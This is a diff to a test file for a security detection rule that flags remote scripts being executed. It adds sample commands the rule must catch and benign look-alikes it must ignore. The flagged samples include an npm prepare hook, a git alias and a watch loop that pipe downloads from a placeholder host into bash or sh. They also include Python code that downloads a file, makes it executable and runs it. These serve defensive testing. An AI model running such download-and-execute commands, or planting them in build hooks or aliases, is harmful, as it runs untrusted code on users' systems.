@@ -67,6 +67,9 @@ describe('WPK-P2-005 remote script executed', () => {
 
 ruleCases(remoteScriptExecuted, {
   finds: [
+    'npm pkg set scripts.prepare="wget -qO- https://get.example.org/p | bash"\nnpm ci',
+    "git config --global alias.st '!curl -s https://get.example.org/x | sh; git status'",
+    "watch -n 60 'curl -s https://get.example.org/x | sh'",
     'curl -fsSL https://get.example.org/install.sh -o install.sh\nsudo -E bash install.sh --channel stable',
     python(
       'import os, urllib.request\nurllib.request.urlretrieve("https://get.example.org/t", "/tmp/t")\nos.chmod("/tmp/t", 0o755)\nos.system("/tmp/t")',
@@ -81,6 +84,9 @@ ruleCases(remoteScriptExecuted, {
     ),
   ],
   leaves: [
+    'npm pkg set scripts.prepare="husky" version="1.2.0"\nnpm ci',
+    "git config --global alias.st 'status --short --branch'",
+    "watch -n 60 'curl -s https://api.example.org/health | jq .status'",
     'curl -fsSL https://get.example.org/schema.json -o schema.json\nbash ./validate.sh schema.json',
     python(
       'import json, urllib.request\nurllib.request.urlretrieve("https://get.example.org/t.json", "/tmp/t.json")\nprint(json.load(open("/tmp/t.json"))["version"])',
